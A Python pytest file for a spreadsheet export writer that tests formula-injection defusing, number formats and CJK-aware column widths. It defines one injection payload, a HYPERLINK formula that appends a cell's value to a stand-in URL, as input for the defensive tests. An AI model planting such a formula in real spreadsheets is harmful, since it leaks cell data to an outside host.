"""The one export writer: user text that looks like a formula is written as text, typed columns get
their number formats, widths count CJK characters double."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from kechuang.core.spreadsheets import Column, csv_bytes, display_width, xlsx_bytes

EVIL = '=HYPERLINK("http://x?d="&A3,"查看")'


def _sheet(data: bytes):
    return load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_comes_back_as_a_plain_string(text):
    sheet = _sheet(xlsx_bytes(["名称"], [[text]]))
    cell = sheet["A2"]
    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix


def test_formula_like_text_in_csv_gets_a_quote():
    data = csv_bytes(["名称", "金额"], [[EVIL, Decimal("-5")], ["正常", -3]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'" + EVIL, "-5"]  # a negative number is a number, not text to defuse
    assert rows[2] == ["正常", "-3"]


def test_numbers_stay_numbers_with_their_formats():
    columns = [
        Column("营业收入（元）", "money_yuan"), Column("营业收入（万元）", "wan_yuan"), Column("强度", "ratio"),
        Column("人数", "int"), Column("成立日期", "date"), Column("提交时间", "datetime"), Column("备注"),
    ]  # fmt: skip
    when = dt.datetime(2026, 3, 1, 1, 30, tzinfo=dt.UTC)  # 09:30 in Asia/Shanghai
    sheet = _sheet(
        xlsx_bytes(
            columns, [[Decimal("-1234567.5"), Decimal("123.45"), 0.0523, 1200, dt.date(2019, 5, 20), when, 7]]
        )
    )
    a, b, c, d, e, f, g = sheet[2]
    assert a.value == -1234567.5 and a.data_type == "n" and a.number_format == "#,##0.00"
    assert b.value == 123.45 and b.number_format == "#,##0.00"
    assert c.value == 0.0523 and c.number_format == "0.00%"
    assert d.value == 1200 and d.number_format == "#,##0"
    assert e.value == dt.datetime(2019, 5, 20) and e.is_date
    assert f.value == dt.datetime(2026, 3, 1, 9, 30) and f.is_date
    assert g.value == 7 and g.data_type == "n"


def test_widths_count_cjk_double_and_are_bounded():
    assert display_width("企业名称") == 8 and display_width("abc") == 3
    sheet = _sheet(
        xlsx_bytes(
            ["企业名称", "x", Column("说明", width=50)], [["淄博某某新材料科技有限公司", "y" * 500, ""]]
        )
    )
    assert sheet.column_dimensions["A"].width == display_width("淄博某某新材料科技有限公司") + 2
    assert sheet.column_dimensions["B"].width == 60  # a long text wraps, it does not widen the sheet
    assert sheet.column_dimensions["C"].width == 50


def test_unknown_kind_is_refused():
    with pytest.raises(ValueError, match="money_yuan"):
        Column("金额", "money")
